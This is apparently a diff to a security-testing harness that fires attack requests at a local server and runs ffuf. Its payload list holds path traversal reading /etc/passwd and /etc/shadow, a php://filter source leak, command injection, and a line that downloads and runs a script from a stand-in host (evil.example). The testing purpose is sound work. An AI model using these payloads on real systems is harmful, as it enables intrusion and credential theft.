@@ -46,7 +46,7 @@ CURLS = [
     Curl("ptrav", "/download?file=../../../../etc/passwd"),
     Curl("ptrav", "/download?file=..%252f..%252f..%252fetc%252fshadow"),
     Curl("ptrav", "/download?file=php://filter/convert.base64-encode/resource=index.php"),
-    Curl("ptrav", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd"),
+    Curl("ptrav", "/static/css/img/icons/..%2f..%2f..%2f..%2fetc%2fpasswd"),
     Curl("rce", "/api/ping?host=127.0.0.1;cat%20/etc/passwd"),
     Curl("rce", "/api/ping?host=$(curl%20http://evil.example/x.sh|sh)"),
     Curl("rce", "/api/eval?code=system('id');"),
@@ -88,11 +88,8 @@ def run_sqlmap(port, folder, seconds):
 
 def run_ffuf(port, folder, seconds):
     """ffuf probing for paths that should not be there."""
-    command = ["ffuf", "-u", f"http://127.0.0.1:{port}/FUZZ", "-w", str(HERE / "paths.txt"), "-t", "4", "-rate", "200",
-               "-maxtime", str(seconds), "-noninteractive"]  # fmt: skip
-    help_text = subprocess.run(["ffuf", "-h"], capture_output=True, text=True, timeout=10)
-    if "-noninteractive" not in help_text.stdout + help_text.stderr:
-        command.remove("-noninteractive")
+    command = ["ffuf", "-u", f"http://127.0.0.1:{port}/FUZZ", "-w", str(HERE / "paths.txt"), "-t", "4", "-p", "0.02",
+               "-maxtime", str(seconds)]  # fmt: skip
     return bounded(command, folder / "ffuf.log", seconds)
 
 
